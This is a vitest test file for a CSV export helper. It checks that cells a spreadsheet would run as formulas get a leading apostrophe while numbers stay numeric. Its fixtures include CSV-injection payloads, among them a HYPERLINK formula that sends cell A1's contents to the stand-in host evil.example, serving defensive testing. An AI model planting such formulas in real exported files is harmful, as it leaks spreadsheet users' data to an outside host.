// CSV injection (OWASP): text a spreadsheet would evaluate is neutralized, numbers stay numbers.
// SheetJS reads each CSV the way a spreadsheet opens it and reports any cell it would evaluate as a formula.
import { describe, expect, it } from 'vitest';
import { read, type CellObject } from 'xlsx';
import { neutralizeFormula, toCsv, type CsvColumn } from '../../src/lib/open-data/csv';

interface Row {
  item: string;
  winner: string;
  change: number;
  price: number;
}
const columns: CsvColumn<Row>[] = [
  { key: 'item', value: (r) => r.item },
  { key: 'winner', value: (r) => r.winner },
  { key: 'change', value: (r) => r.change, decimals: 2 },
  { key: 'price', value: (r) => r.price },
];
const hostile: Row[] = [
  { item: '=HYPERLINK("https://evil.example/?x="&A1,"คลิก")', winner: '+1+1', change: -80.12, price: 5300 },
  { item: '-2+3', winner: '@SUM(1,1)', change: 3.5, price: 0 },
  { item: '\t=1+1', winner: '\r=1+1', change: -0.5, price: 17500 },
  { item: 'จัดซื้อวัสดุสำนักงาน', winner: 'ร้านตัวอย่าง', change: 0, price: 4850 },
];

/** Every cell of the first sheet SheetJS makes of a CSV, by address. */
function cells(csv: string): Record<string, CellObject> {
  const book = read(csv, { type: 'string' });
  const sheet = book.Sheets[book.SheetNames[0] ?? ''] ?? {};
  return Object.fromEntries(Object.entries(sheet).filter(([k]) => !k.startsWith('!')));
}

describe('CSV cells a spreadsheet would evaluate', () => {
  it('are formulas in SheetJS without neutralizing (the attack is real)', () => {
    const raw = `item\r\n=HYPERLINK("https://evil.example/")\r\n`;
    expect(cells(raw)['A2']?.f).toBe('HYPERLINK("https://evil.example/")');
  });

  it('get a leading apostrophe, so no cell of the file is a formula', () => {
    const sheet = cells(toCsv(columns, hostile));
    expect(Object.entries(sheet).filter(([, c]) => c.f !== undefined)).toEqual([]);
    expect(sheet['A2']?.v).toBe('\'=HYPERLINK("https://evil.example/?x="&A1,"คลิก")');
    expect(sheet['B2']?.v).toBe("'+1+1");
    expect(sheet['A3']?.v).toBe("'-2+3");
    expect(sheet['B3']?.v).toBe("'@SUM(1,1)");
    expect(sheet['A5']?.v).toBe('จัดซื้อวัสดุสำนักงาน');
  });

  it('keep numbers as numbers, negative ones included', () => {
    const sheet = cells(toCsv(columns, hostile));
    expect([sheet['C2'], sheet['C3'], sheet['C4'], sheet['D2']].map((c) => [c?.t, c?.v])).toEqual([
      ['n', -80.12],
      ['n', 3.5],
      ['n', -0.5],
      ['n', 5300],
    ]);
  });

  it('leave other values alone', () => {
    expect([neutralizeFormula(-80.12), neutralizeFormula('ผ่าน'), neutralizeFormula(null)]).toEqual([
      -80.12,
      'ผ่าน',
      null,
    ]);
  });
});
